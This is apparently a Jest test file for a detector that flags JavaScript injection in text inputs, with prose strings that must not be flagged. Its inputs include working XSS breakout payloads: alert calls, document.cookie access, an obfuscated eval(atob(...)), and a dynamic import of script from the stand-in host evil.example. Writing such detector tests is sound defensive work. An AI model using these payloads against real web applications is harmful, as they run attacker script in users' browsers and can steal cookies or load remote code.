import { analyzeJs, lexJs, looksLikeScript } from './js-context';

describe('lexJs', () => {
  it('produces identifiers, strings and punctuators and drops comments', () => {
    expect(lexJs("a('x')//c").map((t) => t.kind)).toEqual(['ident', 'punct', 'string', 'punct']);
  });
});

describe('analyzeJs', () => {
  it.each([
    "'-alert(1)-'",
    '";alert(1)//',
    "'};alert(document.cookie);//",
    "\\';confirm(1)//",
    '`${alert(1)}`',
    'alert`1`',
    '[1].find(alert)',
    "top['al\\145rt'](1)",
    'eval(atob("YWxlcnQoMSk="))',
    'document.location=1',
  ])('flags %s', (s) => {
    const m = analyzeJs(s);
    expect(m).not.toBeNull();
    expect(m!.confidence).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    "O'Reilly (2nd edition)",
    'see (below) for details',
    'Please print (double-sided) and sign',
    'f(x) = x^2 + 1',
    "It's 5 o'clock; call me (maybe)",
    'price >= 10 && price <= 20',
    'Import (CSV) settings, then open (24h)',
    'const m = await loader.import("./x.js")',
    'x = alerts; y = evaluation',
  ])('leaves prose alone: %s', (s) => {
    const m = analyzeJs(s);
    expect(m === null || m.confidence < 0.5).toBe(true);
  });

  it.each([
    ["';window.onerror=alert;throw 1//", 'js:breakout:alert'],
    ["';throw onerror=alert,1//", 'js:breakout:alert'],
    ['"-alert?.(1)-"', 'js:breakout:alert'],
    ["';alert.apply(null,[1])//", 'js:breakout:alert'],
    ["';alert.call(null,1)//", 'js:breakout:alert'],
    ['"-import(\'//evil.example/x.js\')-"', 'js:breakout:import'],
  ])('follows less common call forms: %s', (s, rule) => {
    const m = analyzeJs(s);
    expect(m?.rule).toBe(rule);
    expect(m!.confidence).toBeGreaterThanOrEqual(0.5);
  });

  it('looksLikeScript tells code from text', () => {
    expect(looksLikeScript('alert(1)')).toBe(true);
    expect(looksLikeScript('x=1')).toBe(true);
    expect(looksLikeScript('hello world')).toBe(false);
  });
});
